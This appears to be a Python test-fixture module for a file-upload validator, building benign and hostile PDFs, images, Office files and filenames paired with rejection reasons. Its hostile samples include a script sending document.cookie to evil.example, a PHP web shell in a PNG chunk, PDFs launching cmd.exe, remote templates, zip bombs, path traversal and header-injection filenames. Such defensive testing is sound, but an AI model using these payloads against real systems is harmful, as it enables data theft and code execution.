"""Files as programs write them, and as people who mean harm do."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO

from chalicelib.documents.rules.document import DOCX, XLSX
from tests.tenants.pictures import picture

TYPES = {"pdf": "application/pdf", "png": "image/png", "jpg": "image/jpeg", "webp": "image/webp", "heic": "image/heic",
         "txt": "text/plain", "docx": DOCX, "xlsx": XLSX}  # fmt: skip
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(catalog: bytes = b"/Pages 2 0 R", *, more: bytes = b"", end: bytes = b"%%EOF\n") -> bytes:
    """A page with nothing on it; `catalog` is what its root says, `more` other objects."""
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog " + catalog + b">>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\n"
        + more
        + b"trailer\n<</Root 1 0 R/Size 4>>"
        b"\nstartxref\n0\n" + end
    )


def packed(objects: bytes, *, how: bytes = b"") -> bytes:
    """Objects of a PDF that lie in a stream."""
    data = zlib.compress(objects)
    head = b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode" + how + b"/Length %d>>\nstream\r\n" % len(data)
    return head + data + b"\nendstream\nendobj\n"


def office(
    main: str = "word/document.xml", parts: dict[str, bytes] | None = None, *, comment: bytes = b"",
    without: tuple[str, ...] = (),
) -> bytes:  # fmt: skip
    out, body = BytesIO(), b"<w:document>" + b"word " * 50 + b"</w:document>"
    named = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", main: body, **(parts or {})}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in named.items():
            if name not in without:
                made.writestr(name, content)
        made.comment = comment
    return out.getvalue()


def related(kind: str, target: str = "https://evil.example/x.dotm", mode: str = ' TargetMode="External"') -> bytes:
    """The settings of a letter say where something of this kind is."""
    place = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return (
        f'<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{place}" Target="{target}"{mode}/>'
        f"</Relationships>".encode()
    )


RELS = "word/_rels/settings.xml.rels"


def lying(more: int) -> bytes:
    """A letter that says everywhere that a part of it has so many bytes more than it has."""
    name, true = b"word/long.xml", 200_000
    whole = bytearray(office(parts={name.decode(): b"x" * true}))
    local, listed = whole.index(name) - 30, whole.rindex(name) - 46
    for place in (local + 22, listed + 24):
        assert whole[place : place + 4] == true.to_bytes(4, "little")
        whole[place : place + 4] = (true + more).to_bytes(4, "little")
    return bytes(whole)


def typed(content_type: str) -> bytes:
    """A letter in which a part with an innocent name is something else."""
    said = f'<Types><Override PartName="/word/notes.xml" ContentType="application/{content_type}"/></Types>'
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", said.encode("utf-16"))
        for name in ("_rels/.rels", "word/document.xml", "word/notes.xml"):
            made.writestr(name, b"<Relationships/>")
    return out.getvalue()


def hidden(objects: bytes, *, crossed: bytes = b"/Type/XRef") -> bytes:
    """Objects in a stream that does not say what it is, and a stream that leads there."""
    stream = packed(objects).replace(b"/Type/ObjStm", b"")
    return stream + b"8 0 obj<<" + crossed + b"/Root 1 0 R>>stream\n\x00\nendstream endobj\n"


def scans(count: int, size: tuple[int, int] = (640, 480)) -> bytes:
    """A picture that builds up, and does its last step so many times."""
    whole = picture("JPEG", size, progressive=True)
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * count + whole[-2:]


def archive(**parts: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def heic() -> bytes:
    ftyp = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
    return ftyp + b"\x00\x00\x00\x0cmeta\x00\x00\x00\x00" + b"\x00\x00\x00\x10mdat" + b"\x01" * 8


def png_with(kind: bytes, data: bytes) -> bytes:
    """A picture with a chunk of one's own before its pixels."""
    whole = picture("PNG")
    chunk = len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
    return whole[:33] + chunk + whole[33:]


def jpeg_with_comment(text: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + whole[2:]


def huge_png() -> bytes:
    """Few bytes that say they are a hundred thousand pixels wide and high."""
    whole = picture("PNG")
    return whole[:16] + (100_000).to_bytes(4, "big") * 2 + whole[24:]


def bomb() -> bytes:
    return office(parts={"word/media/image1.bmp": b"\x00" * 40_000_000})


def _grown(name: str, ratio: int) -> bytes:
    """A zip whose directory says that one part is far bigger than it is packed."""
    whole = bytearray(office(parts={name: b"x" * 1000}))
    start = whole.rindex(name.encode()) - 46
    whole[start + 24 : start + 28] = ratio.to_bytes(4, "little")
    return bytes(whole)


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same bytes."""
    whole = bytearray(office(parts={"word/a.xml": b"x" * 900, "word/b.xml": b"y" * 900}))
    one, other = whole.rindex(b"word/a.xml") - 46, whole.rindex(b"word/b.xml") - 46
    whole[other + 42 : other + 46] = whole[one + 42 : one + 46]
    return bytes(whole)


HTML = b"<!doctype html><html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"

# By name: what is sent, the type it is sent as, and the word for why it is refused.
HOSTILE: dict[str, tuple[bytes, str, str]] = {
    "nothing at all": (b"", "pdf", "empty"),
    "too big by a byte": (b"a" * (20 * 1024 * 1024 + 1), "txt", "too-big"),
    "svg as a png": (SVG, "png", "markup"),
    "svg as text": (SVG, "txt", "markup"),
    "html as a pdf": (HTML, "pdf", "markup"),
    "html as text": (b"Dear Dana,\n" * 500 + HTML, "txt", "markup"),
    "html behind a mark of byte order": (b"\xef\xbb\xbf" + HTML, "txt", "markup"),
    "html in utf-16": (HTML.decode().encode("utf-16"), "txt", "unknown-type"),
    "a tag in capitals": (b"hello <IMG SRC=x onerror=alert(1)>", "txt", "markup"),
    "xml": (b"<?xml version='1.0'?><feed/>", "txt", "markup"),
    "a Windows program": (b"MZ\x90\x00" + b"\x00" * 500, "pdf", "unknown-type"),
    "a Linux program": (b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "png", "unknown-type"),
    "a shortcut": (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 80, "txt", "unknown-type"),
    "a gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "png", "unknown-type"),
    "a plain zip": (archive(a=b"1"), "docx", "unknown-type"),
    "a jar": (archive(**{"META-INF/MANIFEST.MF": b"Main-Class: Evil"}), "docx", "unknown-type"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "docx", "unknown-type"),
    "EICAR": (EICAR, "txt", "harmful"),
    "EICAR in a PDF": (pdf(more=EICAR), "pdf", "harmful"),
    "a png as a jpeg": (picture("PNG"), "jpg", "not-as-declared"),
    "a pdf as a png": (pdf(), "png", "not-as-declared"),
    "text as a pdf": (b"just words", "pdf", "not-as-declared"),
    "a sheet as a letter": (office("xl/workbook.xml"), "docx", "not-as-declared"),
    "a zip behind a png": (picture("PNG") + archive(x=b"1"), "png", "two-in-one"),
    "html behind a png": (picture("PNG") + HTML, "png", "two-in-one"),
    "a program behind a jpeg": (picture("JPEG") + b"MZ\x90\x00", "jpg", "two-in-one"),
    "a jar behind a jpeg": (picture("JPEG") + archive(x=b"1"), "jpg", "two-in-one"),
    "html behind a webp": (picture("WEBP") + HTML, "webp", "two-in-one"),
    "something behind a heic": (heic() + b"#!/bin/sh\n", "heic", "two-in-one"),
    "a script in a jpeg's comment": (jpeg_with_comment(b"<script>alert(1)</script>"), "jpg", "two-in-one"),
    "php in a png's text": (png_with(b"tEXt", b"Comment\x00<?php system($_GET[0]); ?>"), "png", "two-in-one"),
    "a pdf in a jpeg's comment": (jpeg_with_comment(b"%PDF-1.4 1 0 obj"), "jpg", "two-in-one"),
    "half a png": (picture("PNG", (640, 480))[:-30], "png", "damaged"),
    "half a jpeg": (picture("JPEG", (640, 480))[:-200], "jpg", "damaged"),
    "a picture as wide as a town": (huge_png(), "png", "too-big"),
    "a pdf with something before it": (b"junk\n" + pdf(), "pdf", "unknown-type"),
    "a pdf behind text": (b"Dear Dana\n%PDF-1.4\n1 0 obj\n%%EOF", "txt", "two-in-one"),
    "a pdf without an end": (pdf(end=b""), "pdf", "damaged"),
    "a pdf whose end is far from the end": (pdf() + b"\n" * 2000, "pdf", "damaged"),
    "a zip behind a pdf": (pdf() + archive(x=b"1"), "pdf", "two-in-one"),
    "a zip behind a pdf that ends as one": (pdf() + office(comment=b"%%EOF"), "pdf", "two-in-one"),
    "html behind a pdf": (pdf() + HTML, "pdf", "two-in-one"),
    "html at the beginning of a pdf": (pdf(b"/X(" + HTML + b")"), "pdf", "two-in-one"),
    "a pdf that starts a program": (pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "pdf", "harmful"),
    "a pdf that starts a program, spelled oddly": (pdf(b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"), "pdf", "harmful"),
    "a pdf that starts a program, packed": (pdf(more=packed(b"1 0 <</S/Launch/F(cmd.exe)>>")), "pdf", "harmful"),
    "macros": (office(parts={"word/vbaProject.bin": b"Sub AutoOpen()"}), "docx", "macros"),
    "macros, spelled oddly": (office(parts={"word/VBAPROJECT.BIN": b"Sub AutoOpen()"}), "docx", "macros"),
    "macros of old in a sheet": (
        office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"=EXEC(1)"}), "xlsx", "macros",
    ),
    "an object in a letter": (office(parts={"word/embeddings/oleObject1.bin": b"MZ"}), "docx", "macros"),
    "a program in a letter": (office(parts={"word/media/setup.exe": b"MZ"}), "docx", "macros"),
    "a letter that unpacks into a flood": (bomb(), "docx", "bomb"),
    "a directory that promises a flood": (_grown("word/big.xml", 2**31), "docx", "bomb"),
    "parts that share their bytes": (overlapping(), "docx", "damaged"),
    "a part outside": (office(parts={"../../etc/cron.d/x": b"* * * * *"}), "docx", "damaged"),
    "something behind a letter": (office() + b"MZ\x90\x00", "docx", "damaged"),
    "something before a letter": (b"MZ\x90\x00" + office(), "docx", "unknown-type"),
    "a letter with a comment": (office(comment=HTML), "docx", "damaged"),
    "a letter without its parts": (office(without=("_rels/.rels",)), "docx", "unknown-type"),
    "a part of less than it says": (lying(1000), "docx", "damaged"),
    "a part of more than it says": (lying(-1000), "docx", "damaged"),
    "a template from elsewhere": (office(parts={RELS: related("attachedTemplate")}), "docx", "macros"),
    "a template from elsewhere, spelled oddly": (
        office(parts={RELS: related("attached&#84;emplate", mode=" TargetMode='&#69;xternal'")}), "docx", "macros",
    ),
    "an object from elsewhere": (office(parts={RELS: related("oleObject")}), "docx", "macros"),
    "a page in a letter": (office(parts={RELS: related("aFChunk", "notes.xml", "")}), "docx", "macros"),
    "a page in a letter, by its name": (office(parts={"word/afchunk1.xml": HTML}), "docx", "macros"),
    "buttons of its own": (office(parts={"customUI/customUI14.xml": b"<customUI/>"}), "docx", "macros"),
    "macros by another name": (typed("vnd.ms-office.vbaProject"), "docx", "macros"),
    "a letter of the kind with macros": (typed("vnd.ms-word.document.macroEnabled.main+xml"), "docx", "macros"),
    "a flood of entities": (
        office(parts={RELS: b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}), "docx", "damaged",
    ),
    "a name that ends in a dot": (office(parts={"word/vba.": b"x"}), "docx", "damaged"),
    "a name that ends in a blank": (office(parts={"word/media /a.png": b"x"}), "docx", "damaged"),
    "a name twice": (office(parts={"word/Document.xml": b"x"}), "docx", "damaged"),
    "a jpeg of three thousand steps": (scans(3000), "jpg", "bomb"),
    "a jpeg of many pictures": (picture("JPEG") * 9, "jpg", "two-in-one"),
    "bytes that are no text": (b"a\x00b", "txt", "unknown-type"),
    "text in Latin 1": ("Año".encode("latin-1"), "txt", "unknown-type"),
}  # fmt: skip

# PDFs that can do something: shared, and only ever saved.
ACTIVE: dict[str, bytes] = {
    "a script": pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "a script in its names": pdf(b"/Names<</JavaScript<</Names[(x)4 0 R]>>>>"),
    "a script, spelled oddly": pdf(b"/OpenAction<</S/J#61v#61Scr#69pt/#4a#53(1)>>"),
    "a script, packed": pdf(more=packed(b"1 0 <</S/JavaScript/JS(1)>>")),
    "a script, packed and spelled oddly": pdf(more=packed(b"1 0 <</S/#4aavaScript/JS(1)>>")),
    "a stream of objects that is predicted": pdf(more=packed(b"1 0 <<>>", how=b"/DecodeParms<</Predictor 12>>")),
    "a stream of objects that can't be unpacked": pdf(
        more=packed(b"1 0 <<>>").replace(b"stream\r\n", b"stream\r\n\x00")
    ),
    "a stream of objects that is a flood": pdf(more=packed(b"\x00" * 40_000_000)),
    "a script in a stream that does not say what it is": pdf(more=hidden(b"1 0 <</S/JavaScript/JS(1)>>")),
    "a script in a stream that says what it is for oddly": pdf(
        more=hidden(b"1 0 <</S/JavaScript/JS(1)>>").replace(b"/First", b"/F#69rst")
    ),
    "a script behind references that don't say what they are": pdf(
        more=hidden(b"1 0 <</S/JavaScript/JS(1)>>", crossed=b"/Size 9/W[1 2 1]")
    ),
    "a stream that does not say what it is, packed in another way": pdf(
        more=hidden(b"1 0 <<>>").replace(b"stream\r\nx", b"stream\r\n<~", 1)
    ),
    "a stream of objects behind a far dictionary": pdf(
        more=packed(b"1 0 <</S/JavaScript/JS(1)>>", how=b"/X(" + b"endobj " * 3000 + b")")
    ),
    "a file inside": pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>"),
    "a form that sends what is typed": pdf(b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
    "a form of the other kind": pdf(b"/AcroForm<</XFA 5 0 R>>"),
    "a film": pdf(more=b"7 0 obj<</S/Rendition>>endobj\n"),
    "a password": pdf(more=b"8 0 obj<</Encrypt 9 0 R>>endobj\n"),
}

GOOD: dict[str, tuple[bytes, str, bool]] = {
    "a pdf": (pdf(), "pdf", True),
    "a pdf that opens on its first page": (pdf(b"/OpenAction[3 0 R/Fit]"), "pdf", True),
    "a pdf with packed objects": (pdf(more=packed(b"1 0 <</Type/Font>>")), "pdf", True),
    "a pdf with references and packed objects": (
        pdf(more=packed(b"1 0 <</Type/Font>>") + hidden(b"2 0 <</Type/Font>>")), "pdf", True,
    ),
    "a pdf with bookmarks, a field and a picture": (
        pdf(more=b"5 0 obj<</First 6 0 R/AP<</N 7 0 R>>>>endobj\n7 0 obj<</Filter/DCTDecode>>stream\n\xff\nendstream"),
        "pdf", True,
    ),
    "a pdf with blanks after its end": (pdf() + b"\r\n\x00\x00", "pdf", True),
    "a png": (picture("PNG"), "png", True),
    "a png with zeros behind it": (picture("PNG") + b"\x00" * 40, "png", True),
    "a jpeg": (picture("JPEG", (640, 480)), "jpg", True),
    "a jpeg that builds up": (picture("JPEG", (640, 480), progressive=True), "jpg", True),
    "a jpeg of twenty more steps": (scans(20), "jpg", True),
    "a phone's jpeg, with one of the light behind it": (picture("JPEG") + picture("JPEG", (8, 8)), "jpg", True),
    "a webp": (picture("WEBP"), "webp", True),
    "a heic": (heic(), "heic", False),
    "text": ("Año nuevo: John <john@example.com> says 1 < 2 & 3 > 2 ✓\n".encode(), "txt", False),
    "a letter": (office(parts={"word/media/image1.png": picture()}), "docx", False),
    "a letter with links": (office(parts={RELS: related("hyperlink"), "word/_rels/b.rels": related("image")}), "docx",
                            False),
    "a sheet": (office("xl/workbook.xml", {"xl/printerSettings/printerSettings1.bin": b"x"}), "xlsx", False),
}  # fmt: skip

# What files are called by those who mean harm, and what is left of it for a PDF.
NAMES: dict[str, str] = {
    "agreement.pdf": "agreement.pdf",
    "agreement": "agreement.pdf",
    "invoice.pdf.exe": "invoice.pdf",
    "invoice.exe": "invoice.pdf",
    "invoice.svg.HTML": "invoice.pdf",
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\x": "x.pdf",
    "C:\\Users\\dana\\plan.docx": "plan.pdf",
    "a\r\nSet-Cookie: session=1": "a Set-Cookie_ session_1.pdf",
    'x"; filename="evil.exe': "x__ filename__evil.pdf",
    "a\x00b\x1b[31m.pdf": "a b [31m.pdf",
    "\u202efdp.exe": "fdp.pdf",
    "zero\u200bwidth\u2066.pdf": "zerowidth.pdf",
    "half\ud800.pdf": "half.pdf",
    "CON.pdf": "_CON.pdf",
    "  . . ": "document.pdf",
    "": "document.pdf",
    ".htaccess": "htaccess.pdf",
    "100%25 sure.pdf": "100_25 sure.pdf",
    "Vertrag für Müller & Söhne.pdf": "Vertrag für Müller _ Söhne.pdf",
    "合同 2027.pdf": "合同 2027.pdf",
    "Dr. Smith v1.2": "Dr. Smith v1.2.pdf",
    "x" * 400 + ".pdf": "x" * 80 + ".pdf",
    "合" * 300: "合" * 66 + ".pdf",
}
